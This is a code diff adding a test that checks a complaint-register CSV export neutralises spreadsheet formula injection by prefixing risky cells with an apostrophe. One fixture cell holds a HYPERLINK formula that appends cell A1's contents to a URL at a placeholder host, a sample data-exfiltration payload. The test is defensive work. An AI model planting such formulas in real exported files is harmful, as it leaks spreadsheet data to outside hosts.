@@ -112,6 +112,25 @@ describe('the register columns', () => {
     expect(back.fileProblems.map((p) => p.column)).not.toContain('desa');
   });
 
+  it('keeps cells that look like spreadsheet formulas as text in the CSV', () => {
+    const row = {
+      registerNumber: '001/CC-SA/XII/2026',
+      receivedDate: '2026-12-01',
+      complainant: '@Tester',
+      desa: 'Sandik',
+      sector: 'Kesehatan',
+      provider: '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")',
+      summary: '+SUM(1+1)',
+      status: 'Diterima'
+    };
+    const parsed = Papa.parse<string[]>(registerCsv([row]).slice(1), { delimiter: ';' });
+    const cells = parsed.data[1]!;
+    expect(cells[2]).toBe("'@Tester");
+    expect(cells[5]).toBe(`'${row.provider}`);
+    expect(cells[6]).toBe("'+SUM(1+1)");
+    expect(cells[0]).toBe('001/CC-SA/XII/2026');
+  });
+
   it('has no name column at all in files without names', async () => {
     const csv = registerCsv(registerRows(DEC), false);
     expect(csv.startsWith('\uFEFFNomor register;Tanggal diterima;Desa;')).toBe(true);
